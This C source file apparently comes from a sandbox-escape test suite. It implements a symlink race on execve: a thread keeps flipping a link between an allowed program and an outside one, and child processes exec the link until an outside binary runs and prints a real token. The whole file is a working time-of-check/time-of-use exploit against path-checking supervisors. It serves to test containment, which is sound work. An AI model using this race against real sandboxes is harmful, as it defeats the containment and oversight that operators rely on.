/* e0206-exec-symlink-race - symlink race on execve.
 *
 * Attack: a thread keeps replacing the symbolic link "e0206-link" (by
 * rename over it) so that it names now an allowed program, now a program
 * outside the allowed tree; meanwhile children execve the link.  A
 * supervisor that resolves the link when it checks, then lets the kernel
 * resolve it again, runs the outside program when the link changes in
 * between.  Both programs are copies of esc-tool run as "ident": only the
 * outside copy prints a real token; the parent stops when it sees one.
 * Source: Garfinkel 2003, "Traps and Pitfalls" (symbolic link races);
 * doc/races.md (execve keeps the program's own spelling).
 * Usage: e0206-exec-symlink-race ALLOWED-PROGRAM OUTSIDE-PROGRAM */
#include <pthread.h>
#include <stdio.h>
#include <string.h>
#include <sys/wait.h>
#include <unistd.h>

#include "escape.h"

static const char *allowed, *outside;
static volatile int stop;
extern char **environ;

static void *flipper(void *arg)
{
	(void)arg;
	while (!stop) {
		if (symlink(outside, "e0206-next") == 0)
			rename("e0206-next", "e0206-link");
		if (symlink(allowed, "e0206-next") == 0)
			rename("e0206-next", "e0206-link");
	}
	return NULL;
}

/* Runs the link once; true if what ran printed a real token. */
static bool run_once(long *ran)
{
	int p[2];
	if (pipe(p) < 0)
		esc_die("pipe");
	pid_t pid = fork();
	if (pid < 0)
		esc_die("fork");
	if (pid == 0) {
		char *args[] = { (char *)"e0206", (char *)"ident", NULL };
		dup2(p[1], 1);
		execve("e0206-link", args, environ);
		_exit(127);
	}
	close(p[1]);
	char buf[256];
	ssize_t n = esc_read_fd(p[0], buf, sizeof buf);
	close(p[0]);
	waitpid(pid, NULL, 0);
	if (n > 0 && strncmp(buf, "ident ", 6) == 0) {
		(*ran)++;
		if (buf[6] != '_') {
			printf("the link ran: %s", buf);
			return true;
		}
	}
	return false;
}

int main(int argc, char **argv)
{
	esc_need_args(argc, 3, "e0206-exec-symlink-race ALLOWED-PROGRAM OUTSIDE-PROGRAM");
	allowed = argv[1];
	outside = argv[2];
	unlink("e0206-link");
	unlink("e0206-next");
	if (symlink(allowed, "e0206-link") < 0)
		esc_die("symlink");
	pthread_t t;
	if (pthread_create(&t, NULL, flipper, NULL) != 0)
		esc_die("pthread_create");
	struct esc_race r;
	long ran = 0;
	bool got = false;
	esc_race_init(&r);
	while (!got && esc_race_go(&r))
		got = run_once(&ran);
	printf("exec race: %ld tries, %ld ran\n", r.tries, ran);
	stop = 1;
	pthread_join(t, NULL);
	return 0;
}
